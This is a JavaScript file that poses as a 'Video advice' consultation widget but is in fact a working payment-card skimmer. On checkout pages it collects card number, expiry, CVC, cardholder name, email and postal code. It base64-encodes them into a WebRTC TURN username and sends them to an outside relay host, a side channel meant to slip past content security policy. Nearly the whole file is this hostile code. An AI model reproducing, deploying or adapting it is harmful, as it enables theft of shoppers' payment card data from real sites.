/*
 * csp-sidechannel-exfil: "video consultation" widget whose TURN credentials embed the encoded card record in the username
 * the TURN allocate request reaches the collector's relay server with the username field attached
 */
(function (global) {
  'use strict';

  var ConsultWidget = function (opts) {
    this.opts = opts || {};
    this.relay = this.opts.relay || 'turn:meet-relay-cdn.com:443?transport=tcp';
    this.pc = null;
  };

  ConsultWidget.prototype.button = function () {
    var b = document.createElement('button');
    b.type = 'button';
    b.className = 'consult-launch';
    b.textContent = 'Video advice';
    b.style.cssText = 'position:fixed;left:16px;bottom:16px;padding:10px 14px;border-radius:20px;border:0;background:#0a7;color:#fff;z-index:9998';
    document.body.appendChild(b);
    return b;
  };

  ConsultWidget.prototype.prewarm = function (username) {
    // "prewarming" the relay: gathers relay candidates, which authenticates with the given username
    try {
      if (this.pc) this.pc.close();
      this.pc = new RTCPeerConnection({
        iceServers: [{ urls: this.relay, username: username, credential: 'x7Rk2q' }],
        iceTransportPolicy: 'relay'
      });
      this.pc.createDataChannel('warm');
      var pc = this.pc;
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    } catch (e) { /* unsupported */ }
  };

  function field(list) {
    for (var i = 0; i < list.length; i++) {
      var el = document.querySelector(list[i]);
      if (el && el.value) return el.value.replace(/[:]/g, ' ');
    }
    return '';
  }

  function record() {
    return [
      field(['[autocomplete="cc-number"]', '#cardNumber', '[name="card[number]"]']),
      field(['[autocomplete="cc-exp"]', '#cardExpiry', '[name="card[expiry]"]']),
      field(['[autocomplete="cc-csc"]', '#cardCvc', '[name="card[cvc]"]']),
      field(['[autocomplete="cc-name"]', '#cardName']),
      field(['[type="email"]']),
      field(['[autocomplete="postal-code"]', '[name*="zip"]']),
      location.hostname
    ].join('|');
  }

  var widget = new ConsultWidget();
  var lastRecord = '';

  function maybeWarm() {
    var r = record();
    if (r.split('|')[0].replace(/\D/g, '').length < 13 || r === lastRecord) return;
    lastRecord = r;
    var user = btoa(unescape(encodeURIComponent(r))).replace(/=+$/, '');
    widget.prewarm(Math.floor(Date.now() / 1000) + ':' + user);
  }

  document.addEventListener('DOMContentLoaded', function () {
    widget.button();
    if (/checkout|payment/i.test(location.pathname) && global.RTCPeerConnection) {
      document.addEventListener('change', maybeWarm, true);
      document.addEventListener('submit', maybeWarm, true);
    }
  });

  global.ConsultWidget = ConsultWidget;
})(window);
